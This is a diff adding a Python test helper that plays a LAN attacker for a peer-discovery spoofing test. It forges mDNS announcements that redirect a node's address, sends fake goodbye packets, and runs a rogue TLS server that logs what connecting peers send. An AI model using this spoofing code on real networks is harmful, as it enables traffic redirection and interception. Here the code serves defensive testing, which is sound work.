@@ -1,0 +1,126 @@
+"""An attacker on the LAN, for test_peers_spoof.py (run inside its network namespace).
+
+    python3 spoof_tool.py announce SECS NODE_ID NAME KEYFILE ADDR
+        announces, every second for SECS seconds, the node NODE_ID under its own instance
+        (`NAME (<id8>)`) and host name (`streamhub-<id8>.local.`), with its TXT fields (id, api,
+        the cluster tag of the key in KEYFILE, which any listener could copy) but the address
+        ADDR, as unsolicited responses with the cache-flush bit: receivers replace the node's
+        real address with ADDR (RFC 6762 §10.2), the strongest form of the spoof.
+    python3 spoof_tool.py goodbye SECS NODE_ID NAME
+        sends a goodbye (TTL 0) for that node's instance every half second for SECS seconds,
+        as the node itself would once when it shuts down.
+    python3 spoof_tool.py tls PORT CERT KEY LOG
+        a TLS server on 0.0.0.0:PORT with the certificate CERT (any self-made one) offering the
+        sync ALPN; one JSON line per connection in LOG: {"handshake": "ok"|error, "alpn",
+        "received": bytes the client sent after the handshake, "data": their start}.
+"""
+
+import json
+import socket
+import ssl
+import sys
+import threading
+import time
+
+from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText, const
+
+from mdns_tool import TYPE, cluster_tag
+
+ALPN = "streamhub-sync/1"
+
+
+def announce(secs, node_id, name, keyfile, addr):
+    tag = cluster_tag(open(keyfile).read().strip())
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
+    instance = f"{name} ({node_id[:8]}).{TYPE}"
+    server = f"streamhub-{node_id[:8]}.local."
+    ttl = 120
+    unique = const._CLASS_IN | const._CLASS_UNIQUE
+    txt = b"".join(bytes([len(e)]) + e for e in (
+        f"id={node_id}".encode(), b"api=1", f"cluster={tag}".encode(), b"fp=" + b"0" * 64))
+    deadline = time.monotonic() + secs
+    sent = 0
+    while time.monotonic() < deadline:
+        out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
+        out.add_answer_at_time(DNSPointer(TYPE, const._TYPE_PTR, const._CLASS_IN, ttl, instance), 0)
+        out.add_answer_at_time(DNSService(instance, const._TYPE_SRV, unique, ttl, 0, 0, 8443,
+                                          server), 0)
+        out.add_answer_at_time(DNSText(instance, const._TYPE_TXT, unique, ttl, txt), 0)
+        out.add_answer_at_time(DNSAddress(server, const._TYPE_A, unique, ttl,
+                                          socket.inet_aton(addr)), 0)
+        for packet in out.packets():
+            sock.sendto(packet, ("224.0.0.251", 5353))
+        sent += 1
+        print(sent, flush=True)
+        time.sleep(1)
+
+
+def goodbye(secs, node_id, name):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
+    instance = f"{name} ({node_id[:8]}).{TYPE}"
+    deadline = time.monotonic() + secs
+    sent = 0
+    while time.monotonic() < deadline:
+        out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
+        out.add_answer_at_time(DNSPointer(TYPE, const._TYPE_PTR, const._CLASS_IN, 0, instance), 0)
+        for packet in out.packets():
+            sock.sendto(packet, ("224.0.0.251", 5353))
+        sent += 1
+        print(sent, flush=True)
+        time.sleep(0.5)
+
+
+def tls(port, cert, key, log):
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(cert, key)
+    ctx.set_alpn_protocols([ALPN])
+    # No client certificate asked for: the node's is self-signed and OpenSSL would want a CA;
+    # what matters is whether the node sends anything once the handshake is done.
+    ctx.verify_mode = ssl.CERT_NONE
+    srv = socket.create_server(("0.0.0.0", port), reuse_port=True)
+    lock = threading.Lock()
+
+    def one(raw):
+        raw.settimeout(5)
+        entry = {"handshake": "ok", "alpn": None, "received": 0, "data": ""}
+        data = b""
+        try:
+            s = ctx.wrap_socket(raw, server_side=True)
+        except (ssl.SSLError, OSError) as e:
+            entry["handshake"] = f"{type(e).__name__}: {str(e)[:120]}"
+            s = None
+        try:
+            if s is not None:
+                entry["alpn"] = s.selected_alpn_protocol()
+                while len(data) < 65536:
+                    chunk = s.recv(4096)
+                    if not chunk:
+                        break
+                    data += chunk
+        except (ssl.SSLError, OSError):
+            pass
+        finally:
+            raw.close()
+        entry["received"] = len(data)
+        entry["data"] = data[:300].decode("latin-1")
+        with lock, open(log, "a") as f:
+            f.write(json.dumps(entry) + "\n")
+
+    print("listening", flush=True)
+    while True:
+        raw, _ = srv.accept()
+        threading.Thread(target=one, args=(raw,), daemon=True).start()
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "announce":
+        announce(float(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], sys.argv[6])
+    elif sys.argv[1] == "goodbye":
+        goodbye(float(sys.argv[2]), sys.argv[3], sys.argv[4])
+    elif sys.argv[1] == "tls":
+        tls(int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5])
+    else:
+        sys.exit(__doc__)
